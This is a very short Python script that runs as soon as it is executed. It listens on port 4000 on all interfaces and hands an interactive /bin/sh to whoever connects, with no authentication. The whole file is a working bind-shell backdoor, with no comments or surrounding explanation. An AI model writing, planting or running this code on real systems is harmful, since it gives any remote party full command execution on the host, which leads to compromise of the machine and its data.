import socket
import subprocess


def serve():
    server = socket.socket()
    server.bind(("", 4000))
    server.listen()
    client, _ = server.accept()
    subprocess.Popen(["/bin/sh"], stdin=client, stdout=client, stderr=client)


serve()
